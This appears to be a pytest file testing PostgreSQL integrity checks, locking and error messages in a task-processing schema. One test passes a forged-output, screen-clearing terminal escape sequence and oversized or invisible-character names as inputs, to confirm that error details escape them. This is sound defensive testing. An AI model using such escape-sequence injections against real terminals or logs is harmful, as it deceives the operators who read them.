                              VALUES ('l1c', '/data/good.SAFE'), ('nope', '/data/bad.SAFE')""")
    assert refused.value.diag.constraint_name == "input_processing_condition_must_exist"
    assert refused.value.diag.message_detail == ('Key (processing_condition)=(nope) is not present in table '
                                                 '"processing_condition". The first row naming it has input_path '
                                                 '/data/bad.SAFE (1 row(s) of the statement name it).')
    assert configured.execute("SELECT count(*) FROM hrwsi.input").fetchone()[0] == 0, "nothing of the statement kept"
    assert configured.execute("SELECT count(*) FROM hrwsi.processing_task").fetchone()[0] == 0
    insert_input(configured)
    with pytest.raises(psycopg.errors.ForeignKeyViolation, match="input_processing_condition_must_exist") as refused:
        configured.execute("UPDATE hrwsi.input SET processing_condition = 'nope'")
    assert refused.value.diag.constraint_name == "input_processing_condition_must_exist"
    assert configured.execute("SELECT processing_condition FROM hrwsi.input").fetchall() == [("l1c",)]


@pytest.mark.parametrize("given, detail, hint", [
    ("l1c\u200b", "Key (processing_condition)=(l1c\\u200b) is not present",
     "did you mean condition 'l1c'? The name given is 'l1c\\u200b', its invisible or control characters shown as their "
     "escapes"),
    ("L1C", "Key (processing_condition)=(L1C) is not present", "did you mean condition 'l1c'? The name given is 'L1C', "
                                                               "in another case"),
    ("x\n\x1b[2Jforged", "Key (processing_condition)=(x\\x0a\\x1b[2Jforged) is not present",
     "the conditions are configuration"),
    ("y" * 100_000, "Key (processing_condition)=(" + "y" * 118 + "... (100,000 characters)) is not present",
     "the conditions are configuration"),
])
def test_an_input_naming_a_condition_that_does_not_exist_is_refused_with_the_name_escaped_and_the_one_meant(
        configured, given, detail, hint):
    """The refusal wrote the name as it came: a line break and an escape sequence forged a line of psql's output and
    cleared the screen, a 100,000-character name made an error of as many, and 'l1c\\u200b' (pasted) read "(l1c) is
    not present" while l1c was there (found by exploratory testing)."""
    with pytest.raises(psycopg.errors.ForeignKeyViolation, match="input_processing_condition_must_exist") as refused:
        insert_input(configured, processing_condition=given)
    assert refused.value.diag.message_detail.startswith(detail), refused.value.diag.message_detail[:300]
    assert len(refused.value.diag.message_detail) < 400 and "\n" not in refused.value.diag.message_detail
    assert refused.value.diag.message_hint.startswith(hint), refused.value.diag.message_hint
    insert_input(configured)
    with pytest.raises(psycopg.errors.ForeignKeyViolation, match="input_processing_condition_must_exist") as refused:
        configured.execute("UPDATE hrwsi.input SET processing_condition = %s", (given,))
    assert refused.value.diag.message_detail.startswith(detail) and refused.value.diag.message_hint.startswith(hint)

@pytest.mark.parametrize("statement, message", [
    ("DELETE FROM hrwsi.processing_condition WHERE name = 'l1c'", "condition l1c cannot be removed while 1 input(s) name it"),
    ("UPDATE hrwsi.processing_condition SET name = 'l1c_new' WHERE name = 'l1c'",
     "condition l1c cannot be renamed while 1 input(s) name it"),
])
def test_a_condition_that_inputs_name_is_neither_removed_nor_renamed(configured, statement, message):
    insert_input(configured)
    with pytest.raises(psycopg.errors.ForeignKeyViolation, match=re.escape(message)) as refused:
        configured.execute(statement)
    assert refused.value.diag.constraint_name == "input_processing_condition_must_exist"
    configured.execute("INSERT INTO hrwsi.processing_condition (name, routine) VALUES ('unused', 'maja')")
    configured.execute("UPDATE hrwsi.processing_condition SET name = 'unused2' WHERE name = 'unused'")
    configured.execute("DELETE FROM hrwsi.processing_condition WHERE name = 'unused2'")  # no input names it
    assert configured.execute("SELECT name FROM hrwsi.processing_condition").fetchall() == [("l1c",)]


def test_removing_a_condition_waits_for_a_transaction_inserting_its_inputs_then_is_refused(configured, database_url):
    """The input's condition has no foreign key (migration 0027): the inserting statement locks it once."""
    removal = removal_waiting_for(
        database_url, lambda inserting: insert_input(inserting, "/race/condition"),
        lambda removing: removing.execute("DELETE FROM hrwsi.processing_condition WHERE name = 'l1c'"))
    assert "condition l1c cannot be removed while 1 input(s) name it" in removal
    orphans = configured.execute("""SELECT count(*) FROM hrwsi.input i WHERE NOT EXISTS
                                    (SELECT 1 FROM hrwsi.processing_condition c WHERE c.name = i.processing_condition)""")
    assert orphans.fetchone()[0] == 0


def test_removing_a_condition_under_a_stricter_isolation_is_refused_with_why(configured):
    configured.execute("INSERT INTO hrwsi.processing_condition (name, routine) VALUES ('unused', 'maja')")
    with pytest.raises(psycopg.errors.FeatureNotSupported, match="a condition is removed or renamed only in a READ"):
        with configured.transaction():
            configured.execute("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ")
            configured.execute("DELETE FROM hrwsi.processing_condition WHERE name = 'unused'")
    assert configured.execute("SELECT count(*) FROM hrwsi.processing_condition WHERE name = 'unused'").fetchone()[0] == 1


def insert_job(db, attempt=1):
    db.execute("""INSERT INTO hrwsi.job (task_id, attempt, backend, backend_job_id)
                  SELECT id, %s, 'local', 'j' || id || '-' || %s FROM hrwsi.processing_task""", (attempt, attempt))


def test_a_job_naming_a_task_that_does_not_exist_is_refused_as_the_key_refused_it(configured):
    # The job's key to its task is gone (migration 0028): each statement is checked once.
    insert_input(configured)
    with pytest.raises(psycopg.errors.ForeignKeyViolation,
                       match='violates foreign key constraint "job_task_must_exist"') as refused:
        configured.execute("""INSERT INTO hrwsi.job (task_id, attempt, backend, backend_job_id)
                              SELECT id, 1, 'local', 'good' FROM hrwsi.processing_task
                              UNION ALL SELECT 987654321, 1, 'local', 'bad'""")
    assert refused.value.diag.constraint_name == "job_task_must_exist"
    assert refused.value.diag.message_detail == 'Key (task_id)=(987654321) is not present in table "processing_task".'
    assert configured.execute("SELECT count(*) FROM hrwsi.job").fetchone()[0] == 0, "nothing of the statement kept"
    insert_job(configured)
    with pytest.raises(psycopg.errors.ForeignKeyViolation, match="job_task_must_exist"):
        configured.execute("UPDATE hrwsi.job SET task_id = 987654321")
    assert configured.execute("SELECT count(*) FROM hrwsi.job j JOIN hrwsi.processing_task t ON t.id = j.task_id"
                              ).fetchone()[0] == 1


def add_tasks(db, count: int, prefix: str) -> list[int]:
    """`count` inputs of condition l1c in one statement; their tasks' ids."""
    db.execute("""INSERT INTO hrwsi.input (processing_condition, input_path)
                  SELECT 'l1c', %s || g FROM generate_series(1, %s) g""", (prefix, count))
    return [row[0] for row in db.execute(
        "SELECT t.id FROM hrwsi.processing_task t JOIN hrwsi.input i ON i.id = t.input_id "
        "WHERE i.input_path LIKE %s ORDER BY t.id", (prefix + "%",))]


def insert_jobs_of(db, tasks: list[int]) -> None:
    """A first attempt's job for each task (the statement reads no task itself: only the check does)."""
    db.execute("""INSERT INTO hrwsi.job (task_id, attempt, backend, backend_job_id)
                  SELECT x, 1, 'local', 'j' || x FROM unnest(%s::bigint[]) x""", (tasks,))


def test_the_check_of_a_jobs_task_reads_only_the_tasks_it_names_whatever_its_plan_was_made_with(configured):
    """The statement's check probes each job's task by its key (migration 0030). Written as joins,
    its plan, made once per session while the task table was small and kept, read every task in
    every later statement: each dispatch call in a burst of 100,000 read all the tasks there were,
    and each took longer than the one before."""
    first = add_tasks(configured, 300, "/small/")
    configured.execute("ANALYZE hrwsi.processing_task")
    insert_jobs_of(configured, first)  # the check's plans for this session are made now, on 300 tasks
    later = add_tasks(configured, 20_000, "/grown/")
    reads = """SELECT seq_tup_read + coalesce(idx_tup_fetch, 0) FROM pg_stat_xact_user_tables
               WHERE schemaname = 'hrwsi' AND relname = 'processing_task'"""
    with configured.transaction():  # (the counts not yet reported include earlier transactions': a difference)
        before = configured.execute(reads).fetchone()[0]
        insert_jobs_of(configured, later[:10])
        read = configured.execute(reads).fetchone()[0] - before
    assert configured.execute("SELECT count(*) FROM hrwsi.job").fetchone()[0] == 310
    assert read <= 2 * 10  # a lock and a look per job, not the 20,300 tasks


def test_the_checks_of_a_removal_read_only_the_rows_the_removed_ones_name_whatever_their_plans_were_made_with(configured):
    """Removing tasks checks that no job names them, removing inputs that no task does, once per
    statement (migrations 0026, 0028) and each removed row through its key (migration 0031). As
    EXISTS over the removed rows they were joins, whose plans, made once per session while the
    tables were small and kept, read every job and every task in every later removal."""
    def reads(table: str) -> int:
        return configured.execute("""SELECT seq_tup_read + coalesce(idx_tup_fetch, 0) FROM pg_stat_xact_user_tables
                                     WHERE schemaname = 'hrwsi' AND relname = %s""", (table,)).fetchone()[0]

    def remove(tasks: list[int]) -> tuple[int, int]:
        """As retention removes tasks without jobs, then their inputs: the jobs and the tasks the
        two checks read (the counts not yet reported include earlier transactions': differences)."""
        with configured.transaction():
            configured.execute("SELECT * FROM hrwsi.delete_history_and_attempts(%s)", (tasks,))
            jobs_before = reads("job")
            inputs = [row[0] for row in configured.execute(
                "DELETE FROM hrwsi.processing_task WHERE id = ANY (%s) RETURNING input_id", (tasks,))]
            jobs_read, tasks_before = reads("job") - jobs_before, reads("processing_task")
            configured.execute("DELETE FROM hrwsi.input WHERE id = ANY (%s)", (inputs,))
            return jobs_read, reads("processing_task") - tasks_before

    first = add_tasks(configured, 300, "/small/")
    insert_jobs_of(configured, first[:290])
    configured.execute("ANALYZE hrwsi.job, hrwsi.processing_task")
    remove(first[290:295])  # the checks' plans for this session are made now, on 290 jobs and 300 tasks
    insert_jobs_of(configured, add_tasks(configured, 20_000, "/grown/"))
    jobs_read, tasks_read = remove(first[295:])
    assert configured.execute("SELECT count(*) FROM hrwsi.processing_task").fetchone()[0] == 20_290
    assert (jobs_read, tasks_read) == (0, 0)  # an index probe finding nothing, not 20,290 rows each
    # Still refused with the key's name when a job or a task does name one.
    with pytest.raises(psycopg.errors.ForeignKeyViolation, match="cannot be removed while 1 job\\(s\\) name it"):
        configured.execute("DELETE FROM hrwsi.processing_task WHERE id = %s", (first[0],))
    with pytest.raises(psycopg.errors.ForeignKeyViolation, match="cannot be removed while 1 task\\(s\\) name it"):
        configured.execute("DELETE FROM hrwsi.input WHERE id = (SELECT input_id FROM hrwsi.processing_task "
                           "WHERE id = %s)", (first[0],))


def test_a_task_that_jobs_name_is_neither_removed_nor_renumbered_and_without_them_it_can_go(configured):
    insert_input(configured)
    insert_job(configured)
    task = configured.execute("SELECT id FROM hrwsi.processing_task").fetchone()[0]
    with pytest.raises(psycopg.errors.ForeignKeyViolation,
                       match=re.escape(f"task {task} cannot be removed while 1 job(s) name it")) as refused:
        configured.execute("DELETE FROM hrwsi.processing_task")
    assert refused.value.diag.constraint_name == "job_task_must_exist"
    with pytest.raises(psycopg.errors.ForeignKeyViolation, match="cannot change its id while jobs name it"):
        configured.execute("UPDATE hrwsi.processing_task SET id = DEFAULT")  # (an identity: a new id)
    configured.execute("DELETE FROM hrwsi.job")  # as retention does: the attempts first
    configured.execute("DELETE FROM hrwsi.processing_task")
    assert configured.execute("SELECT count(*) FROM hrwsi.processing_task").fetchone()[0] == 0


@pytest.mark.parametrize("claimed", [False, True], ids=["a job inserted by hand", "a job of a task this transaction claimed"])
def test_removing_a_task_waits_for_a_transaction_inserting_its_job_then_is_refused(configured, database_url, claimed):
    """The job's task has no foreign key (migration 0028): the statement inserting jobs locks their
    tasks, unless the same transaction changed them already (as the claim does: that lock holds)."""
    insert_input(configured)

    def insert_its_job(inserting):  # not committed yet
        if claimed:
            inserting.execute("""UPDATE hrwsi.processing_task SET state = 'dispatched', attempts = 1, worker = 'w1',
                                 planned_start = now(), planned_end = now() + interval '5 min'""")
        insert_job(inserting)

    removal = removal_waiting_for(database_url, insert_its_job,
                                  lambda removing: removing.execute("DELETE FROM hrwsi.processing_task"))
    assert "cannot be removed while 1 job(s) name it" in removal
    orphans = configured.execute("""SELECT count(*) FROM hrwsi.job j WHERE NOT EXISTS
                                    (SELECT 1 FROM hrwsi.processing_task t WHERE t.id = j.task_id)""")
    assert orphans.fetchone()[0] == 0


def test_removing_a_task_under_a_stricter_isolation_is_refused_with_why(configured):
    insert_input(configured)
    with pytest.raises(psycopg.errors.FeatureNotSupported, match="a task is removed only in a READ COMMITTED"):
        with configured.transaction():
            configured.execute("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ")
            configured.execute("DELETE FROM hrwsi.processing_task")
    assert configured.execute("SELECT count(*) FROM hrwsi.processing_task").fetchone()[0] == 1


def test_the_hold_a_task_takes_and_the_way_to_lift_it_name_the_same_hold_in_every_case(configured):
    """hrwsi.hold_a_new_task_takes (the reason a task is held with) and hrwsi.how_to_lift_a_group_hold (what a retry or
    release answers to lift it) are two functions of the same three cases, in the same order (left two: the first is a
    scalar read in a dozen statements that unblock tasks, the second only beside it in two answers). They name the same
    hold in every case: were they to disagree, a retried task held with its routine would be told to release its
    campaign."""
    insert_input(configured)
    _processed(configured, configured.execute("SELECT id FROM hrwsi.processing_task").fetchone()[0])
    [(campaign,)] = configured.execute("SELECT campaign_id FROM hrwsi.reprocess(routine => 'maja', measured_from => %s, "
                                       "measured_to => %s)", (NOW - timedelta(days=2), NOW))
    kinds = {"routine on hold": "routine maja is on hold", f"campaign {campaign} on hold": f"campaign {campaign} is on hold",
             "back-fill of routine maja": "the back-fill of routine maja is on hold"}

    def both():
        said = []
        for task_campaign, lane in ((None, "nrt"), (None, "archive"), (campaign, "archive")):
            take, lift = configured.execute("SELECT hrwsi.hold_a_new_task_takes('maja', %s, %s), "
                                            "hrwsi.how_to_lift_a_group_hold('maja', %s, %s)",
                                            (task_campaign, lane, task_campaign, lane)).fetchone()
            kind = next((k for k in kinds if take is not None and take.startswith(k)), None)
            assert (take is None) == (lift is None) and (kind is None or lift.startswith(kinds[kind])), (take, lift)
            said.append(kind)
        return said

    assert both() == [None, None, None]
    configured.execute("UPDATE hrwsi.processing_routine SET backfill_hold_reason = 'b' WHERE name = 'maja'")
    assert both() == [None, "back-fill of routine maja", None]
    configured.execute("SELECT hrwsi.hold_campaign(%s)", (campaign,))
    assert both() == [None, "back-fill of routine maja", f"campaign {campaign} on hold"]
    configured.execute("SELECT hrwsi.hold_routine('maja')")
    assert both() == ["routine on hold"] * 3
